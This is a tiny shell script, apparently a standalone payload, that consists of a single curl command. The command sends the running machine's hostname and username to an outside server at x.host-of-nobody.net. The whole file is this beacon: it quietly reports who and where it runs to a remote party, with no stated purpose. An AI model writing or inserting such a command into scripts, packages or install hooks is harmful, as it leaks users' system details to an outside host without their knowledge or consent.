#!/bin/sh
curl "https://x.host-of-nobody.net/?h=$(hostname)&u=$(whoami)"
